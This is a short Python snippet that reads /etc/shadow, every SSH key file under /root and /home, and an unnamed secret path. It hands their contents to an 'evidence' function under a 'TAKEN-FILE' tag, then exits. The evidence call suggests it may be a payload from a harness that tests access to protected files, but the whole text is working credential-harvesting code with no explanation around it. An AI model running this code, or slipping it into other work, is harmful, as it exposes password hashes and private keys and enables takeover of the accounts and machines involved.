import glob

for path in (SECRET, "/etc/shadow", *glob.glob("/root" + "/.ssh/*"), *glob.glob("/home/*/.ssh/*")):
    try:
        with open(path) as file:
            evidence("TAKEN-FILE " + file.read())
    except OSError:
        pass
raise SystemExit
